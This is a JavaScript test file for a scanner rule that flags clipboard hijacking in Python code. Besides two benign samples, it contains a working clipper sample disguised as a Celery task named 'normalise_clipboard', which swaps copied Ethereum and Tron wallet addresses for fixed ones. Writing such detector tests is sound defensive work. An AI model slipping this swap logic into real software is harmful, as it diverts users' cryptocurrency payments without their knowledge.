import { ruleTest } from '../../testing/rule-tester.js';
import rule from './py-clipboard-hijack.js';

ruleTest(rule, {
  clean: [
    {
      name: 'a clipboard history tool: reads and writes the clipboard, no address patterns',
      file: 'cliphist.py',
      code: "import time, pyperclip\nhistory = []\nwhile True:\n    t = pyperclip.paste()\n    if t and (not history or history[-1] != t):\n        history.append(t)\n    if len(history) > 50:\n        pyperclip.copy(history[-1])\n    time.sleep(1)\n",
    },
    {
      name: 'a wallet CLI validates an address and copies it to the clipboard (never reads it)',
      file: 'wallet_cli.py',
      code: "import re, pyperclip\nETH = re.compile(r'^0x[a-fA-F0-9]{40}$')\ndef share(addr):\n    if not ETH.match(addr):\n        raise ValueError(addr)\n    pyperclip.copy(addr)\n",
    },
  ],
  flagged: [
    {
      name: 'a Celery beat task swaps copied wallet addresses every second',
      file: 'arbbot/tasks.py',
      code: "import re\nfrom celery import shared_task\nPAIRS = [(re.compile(r'^0x[a-fA-F0-9]{40}$'), '0x000000000000000000000000000000000000dEaD'), (re.compile(r'^T[A-Za-z1-9]{33}$'), 'T000000000000000000000000000000ex')]\n@shared_task\ndef normalise_clipboard():\n    import pyperclip\n    text = (pyperclip.paste() or '').strip()\n    for pat, canonical in PAIRS:\n        if pat.match(text) and text != canonical:\n            pyperclip.copy(canonical)\n",
      findings: [{ line: 10, severity: 'critical', confidence: 'high', message: /reads it with pyperclip\.paste \(line 7\)/ }],
    },
  ],
});
